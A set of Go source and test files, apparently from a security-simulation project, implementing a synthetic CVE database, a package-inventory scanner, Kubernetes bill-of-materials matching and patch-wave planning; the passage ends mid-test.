func TestGapsSorted(t *testing.T) {
	gaps := Audit(core.LegacyConfig()).Gaps()
	for i := 1; i < len(gaps); i++ {
		if gaps[i].ID < gaps[i-1].ID {
			t.Fatal("gaps not sorted")
		}
	}
}

func TestRequirementsReferenceRealMitigations(t *testing.T) {
	model := threatmodel.GENIOModel()
	for _, r := range CRARequirements() {
		if len(r.Mitigations) == 0 {
			t.Errorf("%s lists no mitigations", r.ID)
		}
		for _, mid := range r.Mitigations {
			if _, ok := model.MitigationByID(mid); !ok {
				t.Errorf("%s references unknown mitigation %s", r.ID, mid)
			}
		}
		if r.Check == nil {
			t.Errorf("%s has no check", r.ID)
		}
	}
}

func TestRenderReport(t *testing.T) {
	out := Audit(core.SecureConfig()).Render()
	if !strings.Contains(out, "10/10 satisfied") {
		t.Fatalf("render = %s", out)
	}
	out = Audit(core.LegacyConfig()).Render()
	if !strings.Contains(out, "MISSING") {
		t.Fatal("legacy render shows no gaps")
	}
}

func TestEncryptionRequirementNeedsBothLayers(t *testing.T) {
	cfg := core.SecureConfig()
	cfg.SealedStorage = false // at-rest gap
	rep := Audit(cfg)
	for _, s := range rep.Statuses {
		if s.Requirement.ID == "CRA-4" && s.Satisfied {
			t.Fatal("CRA-4 satisfied without storage encryption")
		}
	}
}
