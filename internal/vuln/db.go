// Package vuln implements GENIO's vulnerability management (M8 for the OS,
// M12 for middleware): a CVE database with version-range matching, scanners
// over host package inventories, a KBOM (Kubernetes bill of materials)
// mapper, and — central to Lesson 6 — a model of advisory *feeds* of
// differing maturity whose publication lag and manual-review cost determine
// the attack window.
package vuln

import (
	"fmt"
	"sort"
	"strconv"
	"strings"
	"sync"
)

// Severity is a CVSS-like score bucketed per NVD conventions.
type Severity int

// Severity buckets.
const (
	SeverityLow Severity = iota + 1
	SeverityMedium
	SeverityHigh
	SeverityCritical
)

var severityNames = map[Severity]string{
	SeverityLow:      "low",
	SeverityMedium:   "medium",
	SeverityHigh:     "high",
	SeverityCritical: "critical",
}

// String names the severity.
func (s Severity) String() string {
	if n, ok := severityNames[s]; ok {
		return n
	}
	return fmt.Sprintf("severity(%d)", int(s))
}

// SeverityFromCVSS buckets a CVSS 3.x base score.
func SeverityFromCVSS(score float64) Severity {
	switch {
	case score >= 9.0:
		return SeverityCritical
	case score >= 7.0:
		return SeverityHigh
	case score >= 4.0:
		return SeverityMedium
	default:
		return SeverityLow
	}
}

// CVE is one vulnerability record.
type CVE struct {
	ID          string  `json:"id"`
	Package     string  `json:"package"`
	Introduced  string  `json:"introduced"`        // first vulnerable version ("" = all earlier)
	FixedIn     string  `json:"fixedIn,omitempty"` // first fixed version ("" = no fix yet)
	CVSS        float64 `json:"cvss"`
	Exploitable bool    `json:"exploitable"` // known exploit in the wild
	Description string  `json:"description"`
	// DisclosedDay is the simulation day the CVE became public, driving
	// the Lesson-6 attack-window experiments.
	DisclosedDay int `json:"disclosedDay"`
}

// Severity buckets the CVE's CVSS score.
func (c CVE) Severity() Severity { return SeverityFromCVSS(c.CVSS) }

// CompareVersions compares dotted (optionally suffixed) version strings:
// -1 if a<b, 0 if equal, 1 if a>b. Non-numeric suffixes ("p1", "-rc2") break
// ties lexicographically, which matches Debian-ish ordering closely enough
// for the simulation.
func CompareVersions(a, b string) int {
	as, bs := versionParts(a), versionParts(b)
	n := len(as)
	if len(bs) > n {
		n = len(bs)
	}
	for i := 0; i < n; i++ {
		var av, bv part
		if i < len(as) {
			av = as[i]
		}
		if i < len(bs) {
			bv = bs[i]
		}
		if c := av.compare(bv); c != 0 {
			return c
		}
	}
	return 0
}

type part struct {
	num int
	suf string
}

func (p part) compare(o part) int {
	if p.num != o.num {
		if p.num < o.num {
			return -1
		}
		return 1
	}
	return strings.Compare(p.suf, o.suf)
}

func versionParts(v string) []part {
	fields := strings.FieldsFunc(v, func(r rune) bool { return r == '.' || r == '-' })
	out := make([]part, 0, len(fields))
	for _, f := range fields {
		i := 0
		for i < len(f) && f[i] >= '0' && f[i] <= '9' {
			i++
		}
		num := 0
		if i > 0 {
			num, _ = strconv.Atoi(f[:i])
		}
		out = append(out, part{num: num, suf: f[i:]})
	}
	return out
}

// Affects reports whether the CVE applies to the given version.
func (c CVE) Affects(version string) bool {
	if c.Introduced != "" && CompareVersions(version, c.Introduced) < 0 {
		return false
	}
	if c.FixedIn != "" && CompareVersions(version, c.FixedIn) >= 0 {
		return false
	}
	return true
}

// Database is an in-memory CVE catalogue indexed by package. Safe for
// concurrent use.
type Database struct {
	mu   sync.RWMutex
	byID map[string]CVE
	pkg  map[string][]string // package -> cve ids
}

// NewDatabase creates an empty database.
func NewDatabase() *Database {
	return &Database{byID: make(map[string]CVE), pkg: make(map[string][]string)}
}

// Add inserts or replaces a CVE record.
func (d *Database) Add(c CVE) {
	d.mu.Lock()
	defer d.mu.Unlock()
	if _, exists := d.byID[c.ID]; !exists {
		d.pkg[c.Package] = append(d.pkg[c.Package], c.ID)
	}
	d.byID[c.ID] = c
}

// Get returns a CVE by ID.
func (d *Database) Get(id string) (CVE, bool) {
	d.mu.RLock()
	defer d.mu.RUnlock()
	c, ok := d.byID[id]
	return c, ok
}

// Len reports the number of records.
func (d *Database) Len() int {
	d.mu.RLock()
	defer d.mu.RUnlock()
	return len(d.byID)
}

// Match returns the CVEs affecting the given package version, sorted by
// descending CVSS.
func (d *Database) Match(pkg, version string) []CVE {
	d.mu.RLock()
	defer d.mu.RUnlock()
	var out []CVE
	for _, id := range d.pkg[pkg] {
		c := d.byID[id]
		if c.Affects(version) {
			out = append(out, c)
		}
	}
	sort.Slice(out, func(i, j int) bool { return out[i].CVSS > out[j].CVSS })
	return out
}

// All returns every record sorted by ID.
func (d *Database) All() []CVE {
	d.mu.RLock()
	defer d.mu.RUnlock()
	out := make([]CVE, 0, len(d.byID))
	for _, c := range d.byID {
		out = append(out, c)
	}
	sort.Slice(out, func(i, j int) bool { return out[i].ID < out[j].ID })
	return out
}

// Prioritize orders findings for patching: exploitable first, then by CVSS.
// This is the triage the paper describes for M8 report handling.
func Prioritize(cves []CVE) []CVE {
	out := append([]CVE(nil), cves...)
	sort.SliceStable(out, func(i, j int) bool {
		if out[i].Exploitable != out[j].Exploitable {
			return out[i].Exploitable
		}
		return out[i].CVSS > out[j].CVSS
	})
	return out
}
