package vuln

import "sort"

// KBOM is a Kubernetes Bill of Materials (M12): a catalogue of control
// plane services, node components, and add-ons with exact versions, used
// to map advisories precisely onto what is actually deployed instead of
// guessing from package names.
type KBOM struct {
	Cluster    string          `json:"cluster"`
	Components []KBOMComponent `json:"components"`
}

// KBOMComponent is one inventoried cluster component.
type KBOMComponent struct {
	Name    string `json:"name"`
	Version string `json:"version"`
	Image   string `json:"image,omitempty"`
	// Tier distinguishes control-plane, node, and add-on components.
	Tier string `json:"tier"`
}

// Add appends a component.
func (k *KBOM) Add(c KBOMComponent) {
	k.Components = append(k.Components, c)
}

// Match maps the KBOM against a CVE database, returning findings sorted by
// descending CVSS. Because versions are exact, there are no name-only
// false positives — the precision gain the paper attributes to KBOM.
func (k *KBOM) Match(db *Database) []Finding {
	var out []Finding
	for _, c := range k.Components {
		for _, cve := range db.Match(c.Name, c.Version) {
			out = append(out, Finding{CVE: cve, Package: c.Name, Version: c.Version, Path: c.Image})
		}
	}
	sort.Slice(out, func(i, j int) bool { return out[i].CVE.CVSS > out[j].CVE.CVSS })
	return out
}

// DefaultKBOM returns the bill of materials for the fixture GENIO cluster.
func DefaultKBOM() *KBOM {
	k := &KBOM{Cluster: "genio-edge"}
	for _, c := range []KBOMComponent{
		{Name: "kube-apiserver", Version: "1.21.0", Image: "registry.k8s.io/kube-apiserver:v1.21.0", Tier: "control-plane"},
		{Name: "etcd", Version: "3.4.13", Image: "registry.k8s.io/etcd:3.4.13", Tier: "control-plane"},
		{Name: "kubelet", Version: "1.21.0", Tier: "node"},
		{Name: "docker-ce", Version: "19.03.8", Tier: "node"},
		{Name: "proxmox-ve", Version: "6.4", Tier: "node"},
		{Name: "onos", Version: "2.5.0", Image: "onosproject/onos:2.5.0", Tier: "add-on"},
		{Name: "voltha", Version: "2.8.0", Image: "voltha/voltha:2.8.0", Tier: "add-on"},
	} {
		k.Add(c)
	}
	return k
}
