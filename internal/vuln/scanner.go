package vuln

import (
	"sort"
	"strings"

	"genio/internal/host"
)

// Finding is one vulnerability detected on a target.
type Finding struct {
	CVE     CVE    `json:"cve"`
	Package string `json:"package"`
	Version string `json:"version"`
	Path    string `json:"path"`
}

// Scanner scans host package inventories against a CVE database, in the
// role of Vuls/Lynis/OpenSCAP-CVE (M8).
//
// SearchPaths models the Lesson-4 tuning requirement: scanners enumerate
// packages under known installation prefixes. ONL installs SDN software
// under non-standard prefixes (/opt/onos, /lib/onl); until those paths are
// added to the scanner configuration, those packages are silently skipped.
type Scanner struct {
	DB *Database
	// SearchPaths are the installation prefixes the scanner covers. Empty
	// means the standard set.
	SearchPaths []string
}

// StandardPaths are the prefixes every stock scanner knows.
var StandardPaths = []string{"/usr", "/bin", "/sbin", "/boot", "/lib/x86_64"}

// NewScanner creates a scanner with the standard search paths.
func NewScanner(db *Database) *Scanner {
	return &Scanner{DB: db, SearchPaths: append([]string(nil), StandardPaths...)}
}

// AddSearchPath extends scanner coverage with a non-standard prefix
// (the manual tuning step of Lesson 4).
func (s *Scanner) AddSearchPath(prefix string) {
	s.SearchPaths = append(s.SearchPaths, prefix)
}

func (s *Scanner) covers(path string) bool {
	for _, p := range s.SearchPaths {
		if strings.HasPrefix(path, p) {
			return true
		}
	}
	return false
}

// ScanReport summarizes a host scan.
type ScanReport struct {
	Target   string    `json:"target"`
	Findings []Finding `json:"findings"`
	// Scanned and Skipped count packages inside / outside search paths;
	// Skipped > 0 is the Lesson-4 blind spot.
	Scanned int `json:"scanned"`
	Skipped int `json:"skipped"`
}

// CountBySeverity tallies findings by severity bucket.
func (r *ScanReport) CountBySeverity() map[Severity]int {
	out := make(map[Severity]int)
	for _, f := range r.Findings {
		out[f.CVE.Severity()]++
	}
	return out
}

// Scan enumerates host packages under the configured search paths and
// matches them against the database.
func (s *Scanner) Scan(h *host.Host) *ScanReport {
	rep := &ScanReport{Target: h.Name}
	for _, p := range h.Packages() {
		if !s.covers(p.Path) {
			rep.Skipped++
			continue
		}
		rep.Scanned++
		for _, c := range s.DB.Match(p.Name, p.Version) {
			rep.Findings = append(rep.Findings, Finding{
				CVE: c, Package: p.Name, Version: p.Version, Path: p.Path,
			})
		}
	}
	sort.Slice(rep.Findings, func(i, j int) bool {
		return rep.Findings[i].CVE.CVSS > rep.Findings[j].CVE.CVSS
	})
	return rep
}

// DefaultDatabase returns the CVE dataset matching the fixture hosts and
// middleware versions used across experiments. Records are synthetic but
// patterned on real advisories for those component lines.
func DefaultDatabase() *Database {
	db := NewDatabase()
	for _, c := range []CVE{
		{ID: "CVE-2023-1001", Package: "openssh-server", Introduced: "7.0", FixedIn: "8.0",
			CVSS: 7.8, Exploitable: true, Description: "privilege escalation via crafted auth request", DisclosedDay: 3},
		{ID: "CVE-2023-1002", Package: "openssl", Introduced: "1.1.0", FixedIn: "1.1.1t",
			CVSS: 5.9, Description: "timing side channel in RSA", DisclosedDay: 10},
		{ID: "CVE-2023-1003", Package: "busybox", Introduced: "1.0", FixedIn: "1.34.0",
			CVSS: 6.5, Description: "awk use-after-free", DisclosedDay: 18},
		{ID: "CVE-2023-1004", Package: "linux-image-onl", Introduced: "4.0", FixedIn: "4.19.300",
			CVSS: 8.4, Exploitable: true, Description: "local privilege escalation in netfilter", DisclosedDay: 5},
		{ID: "CVE-2023-1005", Package: "docker-ce", Introduced: "19.0", FixedIn: "20.10.0",
			CVSS: 9.8, Exploitable: true, Description: "container escape via runc file descriptor leak", DisclosedDay: 8},
		{ID: "CVE-2023-1006", Package: "kubelet", Introduced: "1.20.0", FixedIn: "1.22.0",
			CVSS: 8.8, Description: "node privilege escalation via crafted pod spec", DisclosedDay: 12},
		{ID: "CVE-2023-1007", Package: "onos", Introduced: "2.0.0", FixedIn: "",
			CVSS: 9.1, Description: "REST API authentication bypass (no fix: project dormant)", DisclosedDay: 15},
		{ID: "CVE-2023-1008", Package: "voltha", Introduced: "2.0.0", FixedIn: "2.12.0",
			CVSS: 7.5, Description: "gRPC endpoint DoS", DisclosedDay: 20},
		{ID: "CVE-2023-1009", Package: "proxmox-ve", Introduced: "6.0", FixedIn: "7.4",
			CVSS: 8.1, Description: "API token scope confusion", DisclosedDay: 25},
		{ID: "CVE-2023-1010", Package: "kube-apiserver", Introduced: "1.20.0", FixedIn: "1.21.9",
			CVSS: 7.1, Description: "aggregated API server redirect", DisclosedDay: 9},
		{ID: "CVE-2023-1011", Package: "etcd", Introduced: "3.0.0", FixedIn: "3.5.8",
			CVSS: 6.2, Description: "lease revocation race", DisclosedDay: 30},
		{ID: "CVE-2023-1012", Package: "curl", Introduced: "7.0.0", FixedIn: "7.88.0",
			CVSS: 4.3, Description: "HSTS bypass", DisclosedDay: 22},
	} {
		db.Add(c)
	}
	return db
}
