package vuln

// Patch planning (M8): "reports are prioritized based on severity and
// exploitability, ensuring that critical patches are applied as soon as
// feasible." This file turns scan findings into a remediation plan with
// maintenance-window waves: exploitable criticals go into the emergency
// wave, remaining criticals/highs into the next scheduled window, the rest
// into routine maintenance. Findings with no fixed version are flagged for
// compensating controls instead of a patch.

import (
	"fmt"
	"sort"
	"strings"
)

// Wave is a remediation urgency class.
type Wave int

// Waves, most urgent first.
const (
	WaveEmergency Wave = iota + 1
	WaveScheduled
	WaveRoutine
	// WaveMitigate marks findings without an upstream fix: apply
	// compensating controls (the ONOS situation in the paper).
	WaveMitigate
)

var waveNames = map[Wave]string{
	WaveEmergency: "emergency",
	WaveScheduled: "scheduled",
	WaveRoutine:   "routine",
	WaveMitigate:  "mitigate",
}

// String names the wave.
func (w Wave) String() string {
	if n, ok := waveNames[w]; ok {
		return n
	}
	return fmt.Sprintf("wave(%d)", int(w))
}

// PatchAction is one planned remediation.
type PatchAction struct {
	Wave    Wave     `json:"wave"`
	Package string   `json:"package"`
	From    string   `json:"from"`
	To      string   `json:"to,omitempty"` // empty for WaveMitigate
	CVEs    []string `json:"cves"`
}

// Plan groups actions by wave.
type Plan struct {
	Actions []PatchAction `json:"actions"`
}

// ByWave returns the actions of one wave.
func (p *Plan) ByWave(w Wave) []PatchAction {
	var out []PatchAction
	for _, a := range p.Actions {
		if a.Wave == w {
			out = append(out, a)
		}
	}
	return out
}

// Render formats the plan.
func (p *Plan) Render() string {
	var b strings.Builder
	for _, w := range []Wave{WaveEmergency, WaveScheduled, WaveRoutine, WaveMitigate} {
		actions := p.ByWave(w)
		if len(actions) == 0 {
			continue
		}
		fmt.Fprintf(&b, "%s:\n", w)
		for _, a := range actions {
			target := a.To
			if target == "" {
				target = "(no fix: compensating controls)"
			}
			fmt.Fprintf(&b, "  %-18s %s -> %-12s %s\n", a.Package, a.From, target,
				strings.Join(a.CVEs, ","))
		}
	}
	return b.String()
}

// classify picks the wave for a package's worst finding.
func classify(worst CVE) Wave {
	switch {
	case worst.FixedIn == "":
		return WaveMitigate
	case worst.Exploitable && worst.Severity() >= SeverityCritical:
		return WaveEmergency
	case worst.Exploitable || worst.Severity() >= SeverityHigh:
		return WaveScheduled
	default:
		return WaveRoutine
	}
}

// BuildPlan aggregates findings per package and assigns waves. The patch
// target is the highest FixedIn among the package's findings, so one
// upgrade clears every listed CVE.
func BuildPlan(findings []Finding) *Plan {
	type agg struct {
		from  string
		to    string
		worst CVE
		cves  []string
		noFix bool
	}
	byPkg := make(map[string]*agg)
	for _, f := range findings {
		a, ok := byPkg[f.Package]
		if !ok {
			a = &agg{from: f.Version, worst: f.CVE}
			byPkg[f.Package] = a
		}
		a.cves = append(a.cves, f.CVE.ID)
		if f.CVE.FixedIn == "" {
			a.noFix = true
		} else if a.to == "" || CompareVersions(f.CVE.FixedIn, a.to) > 0 {
			a.to = f.CVE.FixedIn
		}
		if rank(f.CVE) > rank(a.worst) {
			a.worst = f.CVE
		}
	}
	plan := &Plan{}
	names := make([]string, 0, len(byPkg))
	for n := range byPkg {
		names = append(names, n)
	}
	sort.Strings(names)
	for _, name := range names {
		a := byPkg[name]
		sort.Strings(a.cves)
		wave := classify(a.worst)
		to := a.to
		if a.noFix && a.to == "" {
			wave = WaveMitigate
			to = ""
		}
		plan.Actions = append(plan.Actions, PatchAction{
			Wave: wave, Package: name, From: a.from, To: to, CVEs: a.cves,
		})
	}
	sort.SliceStable(plan.Actions, func(i, j int) bool {
		return plan.Actions[i].Wave < plan.Actions[j].Wave
	})
	return plan
}

// rank orders CVEs by urgency for "worst finding" selection.
func rank(c CVE) int {
	r := int(c.Severity()) * 2
	if c.Exploitable {
		r += 3
	}
	return r
}
