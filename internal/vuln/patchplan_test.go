package vuln

import (
	"strings"
	"testing"

	"genio/internal/host"
)

func fixtureFindings(t *testing.T) []Finding {
	t.Helper()
	h := host.NewONLOLT("olt-plan")
	s := NewScanner(DefaultDatabase())
	s.AddSearchPath("/opt/")
	s.AddSearchPath("/lib/onl")
	return s.Scan(h).Findings
}

func TestBuildPlanWaves(t *testing.T) {
	plan := BuildPlan(fixtureFindings(t))
	if len(plan.Actions) == 0 {
		t.Fatal("empty plan")
	}
	// docker-ce: CVSS 9.8 exploitable -> emergency.
	var docker, onos, kernel *PatchAction
	for i := range plan.Actions {
		switch plan.Actions[i].Package {
		case "docker-ce":
			docker = &plan.Actions[i]
		case "onos":
			onos = &plan.Actions[i]
		case "linux-image-onl":
			kernel = &plan.Actions[i]
		}
	}
	if docker == nil || docker.Wave != WaveEmergency {
		t.Fatalf("docker action = %+v, want emergency", docker)
	}
	if docker.To != "20.10.0" {
		t.Fatalf("docker target = %q", docker.To)
	}
	// onos has no fixed version -> mitigate.
	if onos == nil || onos.Wave != WaveMitigate || onos.To != "" {
		t.Fatalf("onos action = %+v, want mitigate", onos)
	}
	// kernel: 8.4 exploitable -> emergency (critical bucket is >=9; 8.4
	// is high+exploitable -> scheduled).
	if kernel == nil || kernel.Wave != WaveScheduled {
		t.Fatalf("kernel action = %+v, want scheduled", kernel)
	}
}

func TestPlanOrderedByUrgency(t *testing.T) {
	plan := BuildPlan(fixtureFindings(t))
	for i := 1; i < len(plan.Actions); i++ {
		if plan.Actions[i].Wave < plan.Actions[i-1].Wave {
			t.Fatal("plan not sorted by wave")
		}
	}
}

func TestOneUpgradeClearsAllCVEs(t *testing.T) {
	// Two CVEs on one package with different FixedIn: target must be the
	// higher version.
	findings := []Finding{
		{CVE: CVE{ID: "A", Package: "p", FixedIn: "1.5", CVSS: 5.0}, Package: "p", Version: "1.0"},
		{CVE: CVE{ID: "B", Package: "p", FixedIn: "2.0", CVSS: 6.0}, Package: "p", Version: "1.0"},
	}
	plan := BuildPlan(findings)
	if len(plan.Actions) != 1 {
		t.Fatalf("actions = %d, want 1 (aggregated)", len(plan.Actions))
	}
	a := plan.Actions[0]
	if a.To != "2.0" || len(a.CVEs) != 2 {
		t.Fatalf("action = %+v", a)
	}
}

func TestMixedFixAndNoFixPrefersUpgrade(t *testing.T) {
	// One fixable and one unfixable CVE on the same package: upgrade to
	// the fixed version still happens (partial remediation beats none).
	findings := []Finding{
		{CVE: CVE{ID: "A", Package: "p", FixedIn: "2.0", CVSS: 9.9, Exploitable: true}, Package: "p", Version: "1.0"},
		{CVE: CVE{ID: "B", Package: "p", FixedIn: "", CVSS: 5.0}, Package: "p", Version: "1.0"},
	}
	plan := BuildPlan(findings)
	a := plan.Actions[0]
	if a.To != "2.0" || a.Wave != WaveEmergency {
		t.Fatalf("action = %+v", a)
	}
}

func TestRenderPlan(t *testing.T) {
	out := BuildPlan(fixtureFindings(t)).Render()
	for _, needle := range []string{"emergency", "mitigate", "docker-ce", "compensating controls"} {
		if !strings.Contains(out, needle) {
			t.Errorf("render missing %q\n%s", needle, out)
		}
	}
}

func TestWaveString(t *testing.T) {
	if WaveEmergency.String() != "emergency" || Wave(9).String() != "wave(9)" {
		t.Fatal("Wave.String mismatch")
	}
}

func TestEmptyPlan(t *testing.T) {
	plan := BuildPlan(nil)
	if len(plan.Actions) != 0 {
		t.Fatal("plan from no findings not empty")
	}
	if plan.Render() != "" {
		t.Fatal("empty plan rendered content")
	}
}
