package vuln

import (
	"testing"
	"testing/quick"

	"genio/internal/host"
)

func TestCompareVersions(t *testing.T) {
	cases := []struct {
		a, b string
		want int
	}{
		{"1.0", "1.0", 0},
		{"1.0", "1.1", -1},
		{"1.10", "1.9", 1},
		{"2.0.0", "2.0", 0},
		{"1.21.0", "1.22.0", -1},
		{"7.9p1", "8.0", -1},
		{"7.9p1", "7.9p2", -1},
		{"7.9", "7.9p1", -1},
		{"4.19.81", "4.19.300", -1},
		{"19.03.8", "20.10.0", -1},
		{"1.1.1d", "1.1.1t", -1},
		{"3.0.2", "1.1.1t", 1},
		{"2.5.0-rc1", "2.5.0-rc2", -1},
	}
	for _, c := range cases {
		if got := CompareVersions(c.a, c.b); got != c.want {
			t.Errorf("CompareVersions(%q, %q) = %d, want %d", c.a, c.b, got, c.want)
		}
	}
}

// Property: comparison is antisymmetric and reflexive.
func TestCompareVersionsProperty(t *testing.T) {
	f := func(a, b uint8, c, d uint8) bool {
		v1 := versionOf(a, b)
		v2 := versionOf(c, d)
		if CompareVersions(v1, v1) != 0 {
			return false
		}
		return CompareVersions(v1, v2) == -CompareVersions(v2, v1)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 200}); err != nil {
		t.Fatal(err)
	}
}

func versionOf(a, b uint8) string {
	return string(rune('0'+a%10)) + "." + string(rune('0'+b%10))
}

func TestCVEAffects(t *testing.T) {
	c := CVE{ID: "X", Package: "p", Introduced: "2.0", FixedIn: "3.0"}
	cases := map[string]bool{
		"1.9": false, "2.0": true, "2.5": true, "2.9.9": true,
		"3.0": false, "3.1": false,
	}
	for v, want := range cases {
		if got := c.Affects(v); got != want {
			t.Errorf("Affects(%q) = %v, want %v", v, got, want)
		}
	}
	// Open-ended ranges.
	noFix := CVE{Introduced: "1.0"}
	if !noFix.Affects("99.0") {
		t.Fatal("unfixed CVE must affect all later versions")
	}
	allEarlier := CVE{FixedIn: "2.0"}
	if !allEarlier.Affects("0.1") || allEarlier.Affects("2.0") {
		t.Fatal("empty Introduced must cover all earlier versions")
	}
}

func TestSeverityBuckets(t *testing.T) {
	cases := map[float64]Severity{
		9.8: SeverityCritical, 9.0: SeverityCritical,
		8.9: SeverityHigh, 7.0: SeverityHigh,
		6.9: SeverityMedium, 4.0: SeverityMedium,
		3.9: SeverityLow, 0.1: SeverityLow,
	}
	for score, want := range cases {
		if got := SeverityFromCVSS(score); got != want {
			t.Errorf("SeverityFromCVSS(%.1f) = %v, want %v", score, got, want)
		}
	}
	if SeverityCritical.String() != "critical" || Severity(9).String() != "severity(9)" {
		t.Fatal("Severity.String mismatch")
	}
}

func TestDatabaseMatchSorted(t *testing.T) {
	db := NewDatabase()
	db.Add(CVE{ID: "A", Package: "p", CVSS: 5.0})
	db.Add(CVE{ID: "B", Package: "p", CVSS: 9.0})
	db.Add(CVE{ID: "C", Package: "p", FixedIn: "1.0", CVSS: 9.9}) // fixed, excluded
	db.Add(CVE{ID: "D", Package: "other", CVSS: 9.9})
	got := db.Match("p", "2.0")
	if len(got) != 2 || got[0].ID != "B" || got[1].ID != "A" {
		t.Fatalf("Match = %+v", got)
	}
	if db.Len() != 4 {
		t.Fatalf("Len = %d, want 4", db.Len())
	}
	if _, ok := db.Get("A"); !ok {
		t.Fatal("Get(A) failed")
	}
	// Replacing a record must not duplicate the index.
	db.Add(CVE{ID: "A", Package: "p", CVSS: 6.0})
	if got := db.Match("p", "2.0"); len(got) != 2 {
		t.Fatalf("after replace, Match = %d findings, want 2", len(got))
	}
}

func TestPrioritizeExploitableFirst(t *testing.T) {
	list := []CVE{
		{ID: "A", CVSS: 9.9},
		{ID: "B", CVSS: 5.0, Exploitable: true},
		{ID: "C", CVSS: 8.0, Exploitable: true},
	}
	got := Prioritize(list)
	if got[0].ID != "C" || got[1].ID != "B" || got[2].ID != "A" {
		t.Fatalf("Prioritize = %v, %v, %v", got[0].ID, got[1].ID, got[2].ID)
	}
	// Input untouched.
	if list[0].ID != "A" {
		t.Fatal("Prioritize mutated its input")
	}
}

func TestScannerFindsFixtureVulns(t *testing.T) {
	h := host.NewONLOLT("olt-01")
	s := NewScanner(DefaultDatabase())
	rep := s.Scan(h)
	if len(rep.Findings) == 0 {
		t.Fatal("no findings on unpatched fixture host")
	}
	ids := map[string]bool{}
	for _, f := range rep.Findings {
		ids[f.CVE.ID] = true
	}
	// Standard-path packages must be found.
	if !ids["CVE-2023-1001"] { // openssh
		t.Fatal("openssh CVE missed")
	}
	if !ids["CVE-2023-1005"] { // docker
		t.Fatal("docker CVE missed")
	}
}

func TestScannerBlindToNonStandardPaths(t *testing.T) {
	// Lesson 4: ONOS/VOLTHA live under /opt and are skipped until the
	// scanner is tuned with those prefixes.
	h := host.NewONLOLT("olt-01")
	s := NewScanner(DefaultDatabase())
	rep := s.Scan(h)
	for _, f := range rep.Findings {
		if f.Package == "onos" || f.Package == "voltha" {
			t.Fatalf("untuned scanner found %s under non-standard path", f.Package)
		}
	}
	if rep.Skipped == 0 {
		t.Fatal("Skipped = 0; fixture should have non-standard paths")
	}

	s.AddSearchPath("/opt/")
	s.AddSearchPath("/lib/onl")
	rep2 := s.Scan(h)
	found := map[string]bool{}
	for _, f := range rep2.Findings {
		found[f.Package] = true
	}
	if !found["onos"] || !found["voltha"] {
		t.Fatalf("tuned scanner still missing SDN packages: %+v", found)
	}
	if rep2.Skipped != 0 {
		t.Fatalf("tuned scanner skipped %d packages", rep2.Skipped)
	}
	if len(rep2.Findings) <= len(rep.Findings) {
		t.Fatal("tuning did not increase findings")
	}
}

func TestScanReportSeverityCounts(t *testing.T) {
	h := host.NewONLOLT("olt-01")
	s := NewScanner(DefaultDatabase())
	s.AddSearchPath("/opt/")
	counts := s.Scan(h).CountBySeverity()
	if counts[SeverityCritical] == 0 {
		t.Fatalf("counts = %v, want at least one critical (docker escape)", counts)
	}
}

func TestFeedVisibility(t *testing.T) {
	structured := Feed{Kind: FeedStructured, PublishLagDays: 1}
	day, manual, ok := structured.Visibility(10)
	if !ok || day != 11 || manual != 0 {
		t.Fatalf("structured = %d, %d, %v", day, manual, ok)
	}
	blog := Feed{Kind: FeedBlog, PublishLagDays: 7, ManualReviewDays: 2}
	day, manual, ok = blog.Visibility(10)
	if !ok || day != 19 || manual != 1 {
		t.Fatalf("blog = %d, %d, %v", day, manual, ok)
	}
	stale := Feed{Kind: FeedStale}
	if _, _, ok := stale.Visibility(10); ok {
		t.Fatal("stale feed delivered an advisory")
	}
	ui := Feed{Kind: FeedUIOnly, PublishLagDays: 3, PollIntervalDays: 14, ManualReviewDays: 1}
	day, _, ok = ui.Visibility(0)
	if !ok || day != 18 {
		t.Fatalf("ui-only day = %d, want 18", day)
	}
}

func TestTrackerPicksFastestFeed(t *testing.T) {
	// kubelet is carried by both the structured k8s feed (fast) and NVD
	// (slower, manual); tracking must use the structured one.
	tr := NewTracker(DefaultFeeds(), 5)
	db := DefaultDatabase()
	c, _ := db.Get("CVE-2023-1006")
	exp := tr.Track(c)
	if exp.BestFeed != "kubernetes-official-cve" {
		t.Fatalf("BestFeed = %s", exp.BestFeed)
	}
	if exp.ManualSteps != 0 {
		t.Fatalf("ManualSteps = %d, want 0 for structured feed", exp.ManualSteps)
	}
	if exp.WindowDays != 1+5 {
		t.Fatalf("WindowDays = %d, want 6", exp.WindowDays)
	}
}

func TestTrackerONOSFallsBackToNVD(t *testing.T) {
	// The ONOS feed is stale; NVD catches it with manual review cost.
	tr := NewTracker(DefaultFeeds(), 5)
	db := DefaultDatabase()
	c, _ := db.Get("CVE-2023-1007")
	exp := tr.Track(c)
	if exp.NeverVisible {
		t.Fatal("ONOS CVE never visible despite NVD fallback")
	}
	if exp.BestFeed != "nvd-api" {
		t.Fatalf("BestFeed = %s, want nvd-api", exp.BestFeed)
	}
	if exp.ManualSteps == 0 {
		t.Fatal("NVD path must cost manual review")
	}
}

func TestTrackerWithoutNVDMissesStaleComponents(t *testing.T) {
	var feeds []Feed
	for _, f := range DefaultFeeds() {
		if f.Kind != FeedNVD {
			feeds = append(feeds, f)
		}
	}
	tr := NewTracker(feeds, 5)
	db := DefaultDatabase()
	c, _ := db.Get("CVE-2023-1007")
	if exp := tr.Track(c); !exp.NeverVisible {
		t.Fatal("stale-feed component visible without NVD fallback")
	}
}

func TestTrackAllOrdering(t *testing.T) {
	tr := NewTracker(DefaultFeeds(), 5)
	exposures := tr.TrackAll(DefaultDatabase())
	if len(exposures) != DefaultDatabase().Len() {
		t.Fatalf("TrackAll = %d, want %d", len(exposures), DefaultDatabase().Len())
	}
	// Visible exposures sorted by descending window after any never-visible.
	seenVisible := false
	last := 1 << 30
	for _, e := range exposures {
		if e.NeverVisible {
			if seenVisible {
				t.Fatal("never-visible exposure after visible ones")
			}
			continue
		}
		seenVisible = true
		if e.WindowDays > last {
			t.Fatal("exposures not sorted by window")
		}
		last = e.WindowDays
	}
}

func TestKBOMPrecision(t *testing.T) {
	db := DefaultDatabase()
	k := DefaultKBOM()
	findings := k.Match(db)
	if len(findings) == 0 {
		t.Fatal("KBOM matched nothing")
	}
	ids := map[string]bool{}
	for _, f := range findings {
		ids[f.CVE.ID] = true
	}
	// kube-apiserver 1.21.0 is affected (fixed in 1.21.9).
	if !ids["CVE-2023-1010"] {
		t.Fatal("kube-apiserver CVE missed by KBOM")
	}
	// etcd 3.4.13 is affected (fixed in 3.5.8).
	if !ids["CVE-2023-1011"] {
		t.Fatal("etcd CVE missed by KBOM")
	}
	// Sorted by CVSS descending.
	for i := 1; i < len(findings); i++ {
